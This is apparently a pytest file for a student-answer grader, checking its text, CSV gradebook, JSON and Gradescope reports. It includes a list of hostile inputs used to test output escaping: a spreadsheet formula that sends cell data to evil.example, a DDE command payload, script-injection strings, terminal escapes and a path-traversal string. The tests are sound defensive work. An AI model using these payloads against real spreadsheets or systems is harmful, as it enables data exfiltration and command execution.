"""What comes out of marking: right, the same whatever the order of input, and safe whatever students write."""

from __future__ import annotations

import csv
import io
import json
import random
import unicodedata
from dataclasses import replace
from decimal import Decimal
from fractions import Fraction
from typing import Any

import pytest

from grader.documents.answer_file import Answer
from grader.documents.exam import variants_of
from grader.documents.exercise_file import load_exercise, load_exercise_bytes
from grader.intake.answer_collection import collect
from grader.kernel.display_text import terminal_width
from grader.marking.grader import Grader
from grader.marking.report import LEVELS, Report
from grader.questions.exercise import Exercise, Policy
from grader.reports.output_options import CANVAS, GRADEBOOKS, MOODLE, OutputOptions
from grader.reports.report_outputs import CHANGES_OUTPUTS, OUTPUTS
from solver.documents.document_schemas import conforms
from solver.languages import LANGUAGES, language
from tests.support.paths import ROOT
from tests.support.runs import changed
from tests.support.safety import is_harmless, is_number

EXERCISE = load_exercise(ROOT / "exercises" / "two-ply.yaml")
GRADER = Grader(EXERCISE)
WORDS = {code: language(code, ROOT / "grader" / "languages") for code in LANGUAGES}
ENGLISH = OutputOptions(WORDS["en"])
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n@SUM(1)",
    "＝1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "]]></svg></style>&amp;",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\u202egnp.exe\u2066",
    "two\nlines\r\nand\u2028more",
    "nul\x00byte",
    "../../etc/passwd",
    "CON",
    "\ud800",
    "9" * 1_000_000,
    "ي" * 100,
    "漢字" * 50,
    "",
]


TOLD = ["Mistake", "Convention"]


def marked() -> list[Report]:
    return [GRADER.grade(answer) for answer in given_answers()]


def given_answers() -> list[Answer]:
    collected = collect([str(ROOT / "exercises" / "answers")], variants_of([EXERCISE]))
    return [each for each in collected if isinstance(each, Answer)]


def hostile() -> list[Report]:
    """Answers that no reader let through: outputs must not rely on it."""
    reports = []
    for text in HOSTILE:
        answers: dict[str, Any] = {"values": {"A": text, "B": text}, "pruned": [text, "L5"], "move": text}
        answers["windows"] = {"C": [text, text]}
        answer = Answer("two-ply", text, answers, name=text, ignored=(text,), source=text[:50])
        reports.append(GRADER.grade(answer))
    return reports


def output(name: str, reports: list[Report], options: OutputOptions = ENGLISH) -> str:
    return b"".join(OUTPUTS[name].write(iter(reports), options)).decode()


def test_the_table() -> None:
    assert [row.split() for row in output("text", marked()).splitlines()] == [
        ["Student", "values", "/4", "windows", "/4", "pruned", "/2", "move", "/1", "Total", "/11", *TOLD],
        ["s1024", "4", "4", "2", "1", "11"],
        ["s1025", "3", "4", "2", "1", "10"],
        ["s1026", "0", "1", "0.5", "0", "1.5"],
        ["s1027", "0", "0", "0", "0", "0"],
    ]


def test_the_table_names_mistakes_and_other_conventions() -> None:
    values = {"A": "14", "B": "12", "C": "6", "D": "14"}
    everyone_maximises = Answer("two-ply", "s1", {"values": values, "move": "a3"})
    windows = {"A": "(3, inf)", "B": "(-inf, 3)", "C": "(3, 2)", "D": "(3, 2)"}
    on_exit = {
        "values": {"A": "3", "B": "3", "C": "<= 2", "D": "2"},
        "windows": windows,
        "pruned": "L5 L6",
        "move": "a1",
    }
    generous = Grader(replace(EXERCISE, marking=Policy(other_convention="full")))
    reports = [generous.grade(everyone_maximises), generous.grade(Answer("two-ply", "s2", on_exit))]
    _, first, second = output("text", reports).splitlines()
    assert reports[0].diagnosis[0].mistake in first.split()
    assert reports[1].other_convention
    assert "window that is written: on leaving the node" in second
    hidden = output("text", reports, replace(ENGLISH, level="marks"))
    assert "Mistake" not in hidden and "write=exit" not in hidden


@pytest.mark.parametrize("code", LANGUAGES)
def test_columns_stand_below_one_another(code: str) -> None:
    names = ["ada", "علی", "漢字", "e\u0301", "\u0645\u06cc\u200c\u0631\u0648\u0645"]
    reports = [GRADER.grade(Answer("two-ply", name, {"move": "a1"})) for name in names]
    _, *rows = output("text", reports, OutputOptions(WORDS[code], level="marks")).splitlines()
    assert len({terminal_width(row) for row in rows}) == 1
    assert len({terminal_width(row[: row.index(WORDS[code].number(0))]) for row in rows}) == 1


def test_one_answer_in_detail() -> None:
    report = next(each for each in marked() if each.answer.student == "s1025")
    text = output("text", [report], replace(ENGLISH, several=False))
    assert text.startswith(
        "Alpha-beta on the two-ply game tree (two-ply)\ns1025, Ada Lovelace: 10 of 11\n\nvalues: 3 of 4\n"
    )
    rows = [line.split() for line in text.splitlines()]
    assert ["B", "8", "3", "wrong", "0"] in rows
    assert ["D", "<=", "5", "2", "follow-through", "1"] in rows
    assert any(row[:4] == ["D", "after", "L8", "L9"] and row[-2:] == ["follow-through", "1"] for row in rows)


@pytest.mark.parametrize("level", LEVELS)
@pytest.mark.parametrize("name", ["text", "gradescope", "json"])
def test_no_output_tells_more_than_the_level_allows(name: str, level: str) -> None:
    """The key's value of A is a number that occurs nowhere else in what may be told."""
    text = "plymark: exercise/1\nid: two-ply\ngame: {tree: [[7771, 7779], [7773]]}\n"
    text += "questions: [{id: values, ask: values, marks: 3}]"
    exercise = load_exercise_bytes(text.encode())
    report = Grader(exercise).grade(Answer("two-ply", "s", {"values": {"A": "1", "B": "2", "C": "3"}}))
    told = output(name, [report], OutputOptions(WORDS["en"], level=level, several=False))
    assert ("7773" in told) == (level == "full")
    assert ("wrong" in told) == (level in ("hints", "full"))


@pytest.mark.parametrize("level", LEVELS)
def test_json_is_a_report_a_line_in_input_order(level: str) -> None:
    reports = marked()
    random.Random(1).shuffle(reports)
    lines = output("json", reports, replace(ENGLISH, level=level)).splitlines()
    assert [json.loads(line)["student"] for line in lines] == [each.answer.student for each in reports]
    for line, report in zip(lines, reports, strict=True):
        data = json.loads(line)
        assert conforms("report/1", data)
        assert (data["file"], data["marks"]) == (report.answer.source, float(report.marks))


def rows(name: str, reports: list[Report], gradebook: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output(name, reports, replace(ENGLISH, gradebook=gradebook)))))


def test_gradebooks() -> None:
    plain, canvas, moodle = (rows("csv", marked(), each) for each in GRADEBOOKS)
    assert plain[0] == ["Student", "ID", "SIS Login ID", "Section", "Total", "values", "windows", "pruned", "move"]
    assert plain[2] == ["Ada Lovelace", "", "s1025", "", "10", "3", "4", "2", "1"]
    title = "Alpha-beta on the two-ply game tree"
    assert canvas[:2] == [
        ["Student", "ID", "SIS Login ID", "Section", title],
        ["Points Possible", "", "", "", "11"],
    ]
    assert canvas[5] == ["s1027", "", "s1027", "", "0"]
    assert moodle[0] == ["Username", "Email address", "Full name", title, "values", "windows", "pruned", "move"]
    assert moodle[2][:4] == ["s1025", "", "Ada Lovelace", "10"]
    mail = GRADER.grade(Answer("two-ply", "ada@example.org", {}))
    assert rows("csv", [mail], MOODLE)[1][:3] == ["", "ada@example.org", ""]
    assert len(rows("csv", [mail], CANVAS)[2]) == 5


def test_marks_in_a_gradebook_are_rounded_half_up() -> None:
    text = (
        "plymark: exercise/1\nid: e\ngame: {tree: [[1, 2], [3, 4]]}\nquestions: [{id: values, ask: values, marks: 1}]"
    )
    exercise = load_exercise_bytes(text.encode())
    report = Grader(exercise).grade(Answer("e", "s", {"values": {"A": "3", "B": "1"}}))
    assert [each.marks for each in report.questions()] == [Fraction(2, 3)]
    assert output("csv", [report]).splitlines()[1] == "s,,s,,0.67,0.67"


def test_gradescope() -> None:
    for report in marked():
        results = json.loads(output("gradescope", [report]), parse_float=Decimal)
        assert results["score"] == Decimal(str(float(report.marks)))
        assert [test["name"] for test in results["tests"]] == ["values", "windows", "pruned", "move"]
        assert sum(test["max_score"] for test in results["tests"]) == EXERCISE.out_of
        assert sum(test["score"] for test in results["tests"]) == results["score"]
        assert {test["visibility"] for test in results["tests"]} == {"after_published"}
        assert {test["output_format"] for test in results["tests"]} == {"text"}
        assert "expected" not in results


@pytest.mark.parametrize("name", ["text", "csv"])
def test_the_order_of_input_does_not_matter(name: str) -> None:
    reports = marked() + hostile()
    expected = output(name, reports)
    for seed in range(3):
        random.Random(seed).shuffle(reports)
        assert output(name, reports) == expected


@pytest.mark.slow
@pytest.mark.parametrize("code", LANGUAGES)
def test_hostile_texts_do_nothing_on_a_terminal(code: str) -> None:
    reports = hostile()
    table = output("text", reports, OutputOptions(WORDS[code]))
    assert is_harmless(table)
    assert len(table.splitlines()) == len(HOSTILE) + 1
    assert max(map(terminal_width, table.splitlines())) < 200
    for report in reports:
        assert is_harmless(output("text", [report], OutputOptions(WORDS[code], several=False)))


@pytest.mark.parametrize("gradebook", GRADEBOOKS)
def test_no_cell_is_a_formula(gradebook: str) -> None:
    found = rows("csv", hostile(), gradebook)
    assert len({len(row) for row in found}) == 1
    for cell in (cell for row in found for cell in row):
        assert is_harmless(cell) and "\n" not in cell
        assert not unicodedata.normalize("NFKC", cell.strip()).startswith(("=", "+", "-", "@")) or is_number(cell)


def test_hostile_texts_stay_data_in_json() -> None:
    reports = [each for each in hostile() if each.answer.student != "\ud800"]
    for name in ("json", "gradescope"):
        lines = output(name, reports).split("\n")[:-1]
        assert len(lines) == len(reports)
        for line, report in zip(lines, reports, strict=True):
            data = json.loads(line)
            assert name == "gradescope" or data["student"] == report.answer.student
            if name == "gradescope":
                assert all(is_harmless(test["output"]) and len(test["output"]) <= 100_001 for test in data["tests"])


def corrected() -> Exercise:
    """A misprint in a leaf is mended, and a question is worth more."""
    text = (ROOT / "exercises" / "two-ply.yaml").read_text(encoding="utf-8")
    game = "{tree: [[3, 12, 8], [5, 4, 6], [14, 5, 2]]}"
    text = text.replace("../specs/two-ply.yaml", game).replace("ask: move, marks: 1", "ask: move, marks: 2")
    return load_exercise_bytes(text.replace("out_of: 11", "out_of: 12").encode())


def test_an_exercise_that_stays_changes_nothing() -> None:
    found = changed(variants_of([EXERCISE]), variants_of([EXERCISE]), given_answers())
    assert (found.up, found.down, found.same) == (0, 0, 4)
    assert all(not each.questions and not each.items for each in found.changes)
    assert CHANGES_OUTPUTS["text"](found, ENGLISH).decode() == (
        "0 students get more.\n0 students get less.\n4 students keep the same marks.\n"
    )


def test_changes_are_what_marking_twice_gives() -> None:
    new, answers = corrected(), given_answers()
    found = changed(variants_of([EXERCISE]), variants_of([new]), reversed(answers))
    assert [each.student for each in found.changes] == ["s1024", "s1025", "s1026", "s1027"]
    for change in found.changes:
        (answer,) = [each for each in answers if each.student == change.student]
        before, after = GRADER.grade(answer), Grader(new).grade(answer)
        assert (change.before, change.after) == (before.marks, after.marks)
        moved = {each.id: (each.after or 0) - (each.before or 0) for each in change.questions}
        assert sum(moved.values()) == after.exact_marks - before.exact_marks
    assert found.down >= 1
    right = found.changes[0]
    assert {"C", "A"} <= {item.item for item in right.items if item.question == "values"} or right.difference < 0


def test_changes_as_text_and_as_a_sheet() -> None:
    found = changed(variants_of([EXERCISE]), variants_of([corrected()]), given_answers())
    text = CHANGES_OUTPUTS["text"](found, ENGLISH).decode()
    assert text.startswith("Maximum marks: 11 before, 12 now.\n")
    assert "s1027" not in text and "s1024" in text
    header, *lines = csv.reader(io.StringIO(CHANGES_OUTPUTS["csv"](found, ENGLISH).decode()))
    assert header == [
        "Student",
        "Name",
        "Before",
        "After",
        "Difference",
        "values",
        "windows",
        "pruned",
        "move",
        "Items",
    ]
    for line, change in zip(lines, found.changes, strict=True):
        assert [Fraction(cell) for cell in line[2:5]] == [change.before, change.after, change.difference]


def test_hostile_texts_in_changes() -> None:
    found = changed(variants_of([EXERCISE]), variants_of([corrected()]), [each.answer for each in hostile()])
    assert is_harmless(CHANGES_OUTPUTS["text"](found, ENGLISH).decode())
    for row in csv.reader(io.StringIO(CHANGES_OUTPUTS["csv"](found, ENGLISH).decode())):
        assert all(is_harmless(cell) and not cell.startswith(("=", "@")) for cell in row)
